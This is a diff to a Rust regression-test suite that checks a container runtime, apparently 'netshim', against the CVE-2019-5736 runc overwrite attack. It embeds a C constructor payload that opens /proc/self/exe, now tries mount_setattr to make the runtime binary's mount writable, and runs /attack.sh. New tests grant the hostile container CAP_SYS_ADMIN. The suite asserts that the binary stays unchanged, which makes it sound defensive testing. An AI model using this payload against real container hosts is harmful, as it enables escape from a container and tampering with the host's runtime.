@@ -31,9 +31,14 @@ const RUNC: &str = "/usr/sbin/runc";
 /// being executed cannot be opened for writing: ETXTBSY).
 const PAYLOAD_C: &str = r#"
 #define _GNU_SOURCE
+#include <errno.h>
 #include <fcntl.h>
+#include <stdint.h>
+#include <stdio.h>
 #include <string.h>
+#include <sys/syscall.h>
 #include <unistd.h>
+struct attr { uint64_t set, clr, propagation, userns_fd; };
 __attribute__((constructor)) static void payload(void) {
     char exe[4096];
     ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
@@ -43,6 +48,14 @@ __attribute__((constructor)) static void payload(void) {
     if (out >= 0) { write(out, exe, strlen(exe)); close(out); }
     int fd = open("/proc/self/exe", O_PATH);
     if (fd < 0) _exit(3);
+    /* A read-only bind of the binary could be made writable again, were
+       it reachable: try (mount_setattr(2), clearing MOUNT_ATTR_RDONLY). */
+    struct attr a = { 0, 1, 0, 0 };
+    long r = syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &a, sizeof a);
+    char msg[64];
+    snprintf(msg, sizeof msg, "%s", r == 0 ? "cleared" : strerror(errno));
+    out = open("/out/setattr", O_WRONLY | O_CREAT | O_TRUNC, 0644);
+    if (out >= 0) { write(out, msg, strlen(msg)); close(out); }
     dup2(fd, 9);
     execl("/bin/sh", "sh", "/attack.sh", (char *)0);
     _exit(4);
@@ -212,6 +225,8 @@ fn set_mode(p: &Path, mode: u32) {
 #[derive(Debug)]
 struct Report {
     exe: String,
+    /// What mount_setattr(2) clearing read-only on the binary's mount gave.
+    setattr: String,
     result: String,
     error: String,
 }
@@ -222,6 +237,7 @@ fn wait_report(out: &Path) -> Option<Report> {
         if let Ok(result) = std::fs::read_to_string(out.join("result")) {
             return Some(Report {
                 exe: std::fs::read_to_string(out.join("exe")).unwrap_or_default(),
+                setattr: std::fs::read_to_string(out.join("setattr")).unwrap_or_default(),
                 result: result.trim().to_string(),
                 error: std::fs::read_to_string(out.join("error"))
                     .unwrap_or_default()
@@ -243,6 +259,10 @@ enum Way {
     CreateStart,
     /// A container running `sleep`, then `exec -d ID /evil`.
     Exec,
+    /// `run -d` of a container that also holds CAP_SYS_ADMIN (over its
+    /// user namespace, rootless), which could make a reachable read-only
+    /// mount writable again.
+    RunWithSysAdmin,
 }
 
 /// Runs the attack one way against one runtime; returns what it left.
@@ -259,6 +279,17 @@ fn attack(
         _ => &["/evil"],
     };
     let b = hostile_bundle(dir, &format!("{}-{id}", v.name), all, args, rootless);
+    if let Way::RunWithSysAdmin = way {
+        let cfg = b.path.join("config.json");
+        let mut spec: Value = serde_json::from_slice(&std::fs::read(&cfg).unwrap()).unwrap();
+        for set in ["bounding", "effective", "permitted"] {
+            spec["process"]["capabilities"][set]
+                .as_array_mut()
+                .unwrap()
+                .push(json!("CAP_SYS_ADMIN"));
+        }
+        std::fs::write(&cfg, serde_json::to_vec_pretty(&spec).unwrap()).unwrap();
+    }
     let before = v.sha256();
     let bundle = b.path.to_str().unwrap();
     let log = dir.join(format!("{}-{id}.stderr", v.name));
@@ -274,7 +305,9 @@ fn attack(
         );
     };
     match way {
-        Way::Run => logged(&mut v.cmd(&["run", "-d", "--bundle", bundle, &id])),
+        Way::Run | Way::RunWithSysAdmin => {
+            logged(&mut v.cmd(&["run", "-d", "--bundle", bundle, &id]))
+        }
         Way::CreateStart => {
             logged(&mut v.cmd(&["create", "--bundle", bundle, &id]));
             logged(&mut v.cmd(&["start", &id]));
@@ -370,9 +403,10 @@ fn row(way: Way, rootless: bool) {
     for v in all {
         let (report, before, after) = attack(dir.path(), v, way, &all, user.as_deref());
         eprintln!(
-            "{way:?} rootless={rootless} {}: exe seen {:?}, attack {} ({}), binary {}",
+            "{way:?} rootless={rootless} {}: exe seen {:?}, mount_setattr {:?}, attack {} ({}), binary {}",
             v.name,
             report.exe,
+            report.setattr,
             report.result,
             report.error,
             if before == after {
@@ -388,6 +422,11 @@ fn row(way: Way, rootless: bool) {
             !report.exe.is_empty(),
             "{name} {way:?}: the payload did not record which file it ran as: {report:?}"
         );
+        assert_ne!(
+            report.setattr.trim(),
+            "cleared",
+            "{name} {way:?}: the container made the binary's mount writable: {report:?}"
+        );
         assert_eq!(
             report.result, "refused",
             "{name} {way:?}: the container wrote to the runtime's binary: {report:?}"
@@ -397,12 +436,14 @@ fn row(way: Way, rootless: bool) {
             "{name} {way:?}: the host's copy of the runtime's binary changed: {report:?}"
         );
     }
-    // netshim runs from a sealed in-memory copy: the only file the
-    // container could reach.
+    // netshim runs from a copy the container can reach but not change: a
+    // read-only bind detached from every namespace (it reads as "/", as
+    // runc's does) for root and root of a user namespace, a sealed memfd
+    // otherwise. Never the file the test made.
+    let exe = table[0].1.exe.as_str();
     assert!(
-        table[0].1.exe.starts_with("/memfd:netshim"),
-        "netshim {way:?}: the container ran {:?}, not the sealed copy",
-        table[0].1.exe
+        exe == "/" || exe.starts_with("/memfd:netshim"),
+        "netshim {way:?}: the container ran {exe:?}, not a read-only or sealed copy"
     );
 }
 
@@ -434,4 +475,14 @@ fn cve_2019_5736_rootless_through_create_and_start_leaves_the_users_binary_uncha
 #[test]
 fn cve_2019_5736_rootless_through_exec_leaves_the_users_binary_unchanged() {
     row(Way::Exec, true);
+}
+
+#[test]
+fn cve_2019_5736_with_cap_sys_admin_cannot_make_the_copy_writable() {
+    row(Way::RunWithSysAdmin, false);
+}
+
+#[test]
+fn cve_2019_5736_rootless_with_cap_sys_admin_cannot_make_the_copy_writable() {
+    row(Way::RunWithSysAdmin, true);
 }
